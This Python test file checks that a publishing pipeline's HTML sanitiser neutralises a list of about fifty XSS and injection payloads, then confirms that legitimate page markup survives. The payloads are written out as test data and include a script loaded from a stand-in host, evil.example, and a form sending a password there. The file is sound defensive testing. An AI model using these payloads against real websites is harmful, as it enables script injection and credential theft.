"""The HTML sanitiser of the published pages (publish.sanitize_html, on nh3): hostile payloads.

Every payload is followed by a harmless paragraph: it must come out inert (no script, no event
attribute, no script or data: URL, nothing fetched from the internet, no frame, object or
form) while the paragraph after it survives. The slow test opens all of them in Chromium.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from nbformat.v4 import new_code_cell, new_notebook, new_output

from cucs_analysis.pipeline import publish

JS = "document.body.setAttribute('data-pirate','1')"
B64_SCRIPT = "PHNjcmlwdD5kb2N1bWVudC5ib2R5LnNldEF0dHJpYnV0ZSgnZGF0YS1waXJhdGUnLCcxJyk8L3NjcmlwdD4="
EVIL = "evil.example"
SUITE = '<p class="suite">Suite du carnet</p>'

PAYLOADS = {
    # <script>, however written
    "script": f"<script>{JS}</script>",
    "script-majuscules": f"<SCRIPT SRC=//{EVIL}/x.js></SCRIPT>",
    "script-imbrique": f"<scr<script>ipt>{JS}</script>",
    "script-data": f"<script src='data:text/javascript,{JS}'></script>",
    # event handlers
    "img-onerror": f'<img src=x onerror="{JS}">',
    "img-onerror-slash": f"<img/src=x/onerror={JS}>",
    "details-ontoggle": f'<details open ontoggle="{JS}"><summary>s</summary></details>',
    "body-onload": f'<body onload="{JS}">',
    # javascript: URLs
    "a-javascript": f'<a href="javascript:{JS}">lien</a>',
    "a-javascript-entites": f'<a href="&#106;avascript:{JS}">lien</a>',
    "a-javascript-tab": f'<a href=" JaVa&#x09;ScRiPt:{JS}">lien</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">lien</a>',
    # SVG
    "svg-onload": f'<svg onload="{JS}"><circle r="1"/></svg>',
    "svg-animate": f'<svg><animate onbegin="{JS}" attributeName="x" dur="1s"/></svg>',
    "svg-set": f'<svg><set attributeName="onmouseover" to="{JS}"/></svg>',
    "svg-a-javascript": f'<svg><a xlink:href="javascript:{JS}"><text x="1" y="1">x</text></a></svg>',
    "svg-use-data": f'<svg><use href="data:image/svg+xml;base64,{B64_SCRIPT}#x"/></svg>',
    "svg-foreignobject": f"<svg><foreignObject><iframe src='javascript:{JS}'></iframe></foreignObject></svg>",
    "svg-image-distante": f'<svg><image href="https://{EVIL}/x.png"/></svg>',
    "svg-style-mxss": "<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    # frames, objects
    "iframe": f'<iframe src="https://{EVIL}"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    "iframe-data": f"<iframe src='data:text/html;base64,{B64_SCRIPT}'></iframe>",
    "object-javascript": f'<object data="javascript:{JS}"></object>',
    "object-data": f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>',
    "embed": f'<embed src="data:image/svg+xml;base64,{B64_SCRIPT}">',
    # CSS
    "style-import": f"<style>@import url(//{EVIL}/x.css);</style>",
    "style-url-distante": f'<style>body {{ background: url("https://{EVIL}/x.png") }}</style>',
    "style-url-echappee": f"<style>body {{ background: u\\72l(https://{EVIL}/x.png) }}</style>",
    "style-image-set": f'<style>p {{ background: image-set("https://{EVIL}/x.png" 1x) }}</style>',
    "style-fermeture": f"<style>p {{}}</style><script>{JS}</script>",
    "attribut-style-url": f'<p style="background-image: url(https://{EVIL}/x.png)">t</p>',
    "attribut-style-expression": '<p style="width: expression(alert(1))">t</p>',
    # resources from the internet
    "img-distante": f'<img src="http://{EVIL}/x.png" alt="a">',
    "img-sans-schema": f'<img src="//{EVIL}/x.png" alt="a">',
    "img-antislash": f'<img src="\\\\{EVIL}\\x.png" alt="a">',
    "img-srcset": f'<img src="a.png" srcset="https://{EVIL}/x.png 2x" alt="a">',
    "video-poster": f'<video poster="https://{EVIL}/x.png" src="https://{EVIL}/v.mp4"></video>',
    "table-background": f'<table background="https://{EVIL}/x.png"><tr><td>t</td></tr></table>',
    "link": f'<link rel="stylesheet" href="https://{EVIL}/x.css">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    "base": f'<base href="https://{EVIL}/">',
    # forms
    "form": (
        f'<form action="https://{EVIL}/vol"><input type="password" name="mdp">'
        f'<button formaction="javascript:{JS}">Envoyer</button><input type="image" src="https://{EVIL}/b.png"></form>'
    ),
    # data: URIs that are documents, not images
    "a-data": f'<a href="data:text/html;base64,{B64_SCRIPT}">lien</a>',
    "img-data-html": f'<img src="data:text/html,<script>{JS}</script>" alt="a">',
    # parser tricks
    "mxss-math": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
        "</mglyph></table></mtext></math>"
    ),
    "noscript-attribut": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "commentaire": "<!--<img src=x onerror=alert(1)>-->",
    "template": f"<template><script>{JS}</script></template>",
}

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
    "textarea", "select", "base", "meta", "link", "noscript", "template", "math", "animate", "set",
    "foreignobject", "video", "audio", "source",
}  # fmt: skip
URL_ATTRS = {"href", "src", "xlink:href", "action", "formaction", "data", "poster", "background", "srcset"}


class Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_style = tag == "style"

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        self._in_style = False

    def handle_data(self, data):
        if self._in_style:
            self.styles.append(data)


def squash(url: str) -> str:
    return re.sub(r"[\x00-\x20]+", "", url).lower()


def remote(url: str) -> bool:
    parts = urlsplit(squash(url).replace("\\", "/"))
    return bool(parts.scheme and parts.scheme != "data") or bool(parts.netloc)


def assert_inert(cleaned: str) -> None:
    """What a browser could run or fetch from ``cleaned``: nothing."""
    assert "<script" not in cleaned.lower()
    assert EVIL not in cleaned  # every URL to the outside was a resource or a script here
    page = Collect()
    page.feed(cleaned)
    for tag, attrs in page.tags:
        assert tag not in FORBIDDEN_TAGS, tag
        for name, value in attrs.items():
            value = value or ""
            assert not name.startswith("on"), (tag, name)
            assert name not in {"srcdoc", "formaction", "action", "srcset", "poster", "background"}, name
            if name in URL_ATTRS:
                assert not squash(value).startswith(("javascript:", "vbscript:")), (tag, name, value)
                if squash(value).startswith("data:"):
                    assert (tag, name) == ("img", "src") and squash(value).startswith("data:image/"), value
                if (tag, name) != ("a", "href"):
                    assert not remote(value), (tag, name, value)
            if name == "style":
                page.styles.append(value)
    for css in page.styles:
        assert not re.search(r"@import|expression|url\s*\(|image-set|\\", css, re.I), css


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_hostile_payload_comes_out_inert(payload):
    cleaned, _ = publish.sanitize_html(payload + SUITE, "Figure : Q")
    assert_inert(cleaned)
    assert cleaned.endswith(SUITE)  # what follows the payload is still there


def test_the_payloads_are_hostile_before_sanitising():
    """The checker is not blind: each raw payload fails it (except those hidden in a comment)."""
    caught = 0
    for name, payload in PAYLOADS.items():
        try:
            assert_inert(payload)
        except AssertionError:
            caught += 1
        else:
            # hidden from Python's parser, which does not parse like a browser
            assert name in {"commentaire", "svg-style-mxss", "noscript-attribut", "img-onerror-slash"}, name
    assert caught >= len(PAYLOADS) - 4


def test_what_the_site_needs_survives():
    fragment = (
        '<div class="cell code_cell" id="cell-id=1"><div class="output_subarea output_html rendered_html">'
        '<h2 id="En-bref">En bref<a class="anchor-link" href="#En-bref">¶</a></h2>'
        '<figure class="cucs-figure"><img src="data:image/png;base64,AAAA" alt="Taux &lt; 5 %" '
        'style="max-width:100%;height:auto"><figcaption>Source : Insee</figcaption></figure>'
        '<img src="figures/carte.png" alt="Carte">'
        '<div class="cucs-tableau-bloc"><table class="cucs-tableau"><caption>Légende</caption>'
        '<thead><tr><th scope="col">Quartier</th><th class="num">Taux</th></tr></thead>'
        '<tbody><tr><td>Les Tilleuls</td><td class="num" colspan="1">12,5</td></tr></tbody></table></div>'
        '<table border="1" class="dataframe"><tr style="text-align: right;"><th>a</th></tr></table>'
        "<style>.dataframe tbody tr th:only-of-type { vertical-align: middle; } td > b { color: red; }</style>"
        '<p>Voir <a href="https://www.insee.fr/fr/statistiques">l\'Insee</a> ou '
        '<a href="mailto:contact@exemple.fr">écrire</a>, <a href="../../methode.html">la méthode</a>.</p>'
        '<p data-cle="x" aria-label="note"><strong>Gras</strong> <em>et</em> <code>code</code></p>'
        '<svg viewBox="0 0 2 2" width="20"><circle cx="1" cy="1" r="1" fill="#00527a"/></svg>'
        "</div></div>"
    )
    cleaned, warnings = publish.sanitize_html(fragment)
    assert warnings == []
    for kept in (
        'class="cell code_cell"',
        'id="cell-id=1"',
        'class="anchor-link" href="#En-bref"',
        'class="cucs-figure"',
        'src="data:image/png;base64,AAAA"',
        'alt="Taux &lt; 5 %"',
        'style="max-width:100%;height:auto"',
        "<figcaption>Source : Insee</figcaption>",
        'src="figures/carte.png"',
        'class="cucs-tableau"',
        '<th class="num">',
        '<th scope="col">',
        "<caption>Légende</caption>",
        'class="dataframe"',
        'style="text-align: right;"',
        "td > b { color: red; }",
        'href="https://www.insee.fr/fr/statistiques"',
        'href="mailto:contact@exemple.fr"',
        'href="../../methode.html"',
        'data-cle="x"',
        'aria-label="note"',
        "<strong>Gras</strong>",
        "<code>code</code>",
        'viewBox="0 0 2 2"',
        'fill="#00527a"',
    ):
        assert kept in cleaned, kept
    assert_inert(cleaned)


@pytest.mark.parametrize(
    ("fragment", "alts", "n_warnings"),
    [
        ('<img src="a.png">', ["Figure : Q"], 1),
        ('<img src="a.png" alt="  ">', ["Figure : Q"], 1),
        ('<img src="a.png" alt="Carte">', ["Carte"], 0),
        # an attribute that looks like an alt is not one
        ('<img src="a.png" title=\'x alt="y\'>', ["Figure : Q"], 1),
        ('<img src="a.png" alt="Carte"><img src="b.png">', ["Carte", "Figure : Q"], 1),
    ],
)
def test_every_img_gets_an_alt(fragment, alts, n_warnings):
    cleaned, warnings = publish.sanitize_html(fragment, "Figure : Q")
    page = Collect()
    page.feed(cleaned)
    assert [a.get("alt") for t, a in page.tags if t == "img"] == alts
    assert len(warnings) == n_warnings
    assert all("Image sans texte alternatif : « Figure : Q » utilisé." == w for w in warnings)


def test_img_written_inside_an_attribute_is_text():
    cleaned, warnings = publish.sanitize_html('<p title="<img src=x>">t</p>', "Figure : Q")
    assert warnings == [] and 'alt="Figure' not in cleaned
    assert_inert(cleaned)


def test_default_alt_is_escaped():
    cleaned, _ = publish.sanitize_html('<img src="a.png">', 'Figure "q" <b>')
    assert 'alt="Figure &quot;q&quot; &lt;b&gt;"' in cleaned


def page_with_payloads() -> str:
    outputs = [new_output("display_data", data={"text/html": p + SUITE}) for p in PAYLOADS.values()]
    nb = new_notebook(cells=[new_code_cell("show()", outputs=outputs)])
    return publish.render_page(nb, "q3", "20001", "Valbrune-sur-Lèze")


def test_page_with_every_payload_is_inert():
    page = page_with_payloads()
    body = page[page.index('<article class="carnet">') : page.index("</article>")]
    assert_inert(body)
    assert body.count("Suite du carnet") == len(PAYLOADS)


@pytest.mark.slow
def test_payloads_do_nothing_in_chromium(tmp_path):
    from test_site_browser import dump_dom

    html_path = tmp_path / "pages" / "20001" / "q3.html"
    html_path.parent.mkdir(parents=True)
    html_path.write_text(page_with_payloads(), encoding="utf-8")
    dom, console = dump_dom(html_path.as_uri(), tmp_path / "profil")
    body = re.search(r"<body\b[^>]*>", dom)
    assert body and "data-pirate" not in body[0]  # no payload ran (some stay as text)
    assert console == [], console
    assert dom.count("Suite du carnet") == len(PAYLOADS)
